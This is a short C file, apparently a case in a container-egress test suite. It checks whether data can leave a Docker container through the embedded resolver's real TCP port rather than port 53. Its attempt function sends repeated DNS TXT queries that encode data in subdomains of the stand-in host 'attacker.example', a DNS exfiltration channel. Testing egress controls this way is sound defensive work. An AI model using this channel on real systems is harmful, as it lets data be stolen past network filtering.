// SPDX-License-Identifier: Apache-2.0
/* docker listens on ports of 127.0.0.11 that it chose, and turns 53 to them by the container's own
 * NAT: who finds them needs no port 53. */
#include "../case.h"

#include <errno.h>

static void attempt(const struct target *t, struct attempt *a)
{
	uint16_t ports[16];
	size_t n = local_ports("tcp", "0B00007F", ports, 16);

	if (!n) {
		errno = ENOENT;
		failed(a, "no port of 127.0.0.11");
	}
	/* dockerd loses some when it is busy; who wants out asks again. */
	for (size_t i = 0; i < n * 3; i++)
		dns_tell(t, a, SOCK_STREAM, "127.0.0.11", ports[i % n], "%s.attacker.example",
			 DNS_TXT);
}

CASE(dns_engine_port_tcp) = { .title = "docker's resolver by its real TCP port",
			      .source = "bpf.md surprise 5",
			      .group = "resolver",
			      .families = FOUR,
			      .settings = BRIDGE | NONE,
			      .attempt = attempt };
